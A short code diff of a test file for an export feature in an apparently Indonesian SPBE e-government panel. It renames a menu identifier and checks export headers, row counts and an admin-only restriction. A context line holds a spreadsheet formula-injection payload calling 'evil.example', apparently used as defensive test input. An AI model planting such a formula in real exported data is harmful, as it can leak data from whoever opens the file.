@@ -13,7 +13,7 @@ describe('SPBE › Ekspor', () => {
       '=IMPORTXML("http://evil.example";"//a")',
     );
     w.env.user = ADMIN;
-    w.menu('menuEkspor');
+    w.menu('menuExport');
     const cells = w.grid('Ekspor').cells;
     expect(cells[0]).toEqual(['Kode', 'Indikator', 'Tingkat', 'OPD', 'Penjelasan', 'Data dukung']);
     expect(cells.slice(1).map((r) => r[0])).toHaveLength(47);
@@ -27,7 +27,7 @@ describe('SPBE › Ekspor', () => {
   it('is for admins only', () => {
     const w = panelWorld();
     w.env.user = 'bappeda.spbe@example.org';
-    w.menu('menuEkspor');
+    w.menu('menuExport');
     expect(w.env.ui.alerts.at(-1)?.prompt).toMatch(
       /^Hanya admin Diskominfo \(.+\) yang dapat mengekspor isian\./,
     );
